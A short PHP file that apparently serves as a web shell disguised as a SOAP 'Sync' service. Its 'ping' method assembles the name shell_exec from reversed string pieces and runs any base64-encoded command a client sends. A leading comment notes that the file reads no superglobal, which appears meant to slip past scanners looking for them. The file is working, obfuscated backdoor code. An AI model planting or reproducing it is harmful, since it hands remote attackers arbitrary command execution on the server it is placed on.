<?php
// A SOAP service class whose method builds its function name from pieces and runs the
// client's argument; nothing in the file reads a superglobal.
class Sync
{
    public function ping($a)
    {
        $f = strrev('cexe_' . 'llehs');
        return $f(base64_decode($a));
    }
}
$s = new \SoapServer(null, ['uri' => 'urn:sync']);
$s->setClass('Sync');
$s->handle();
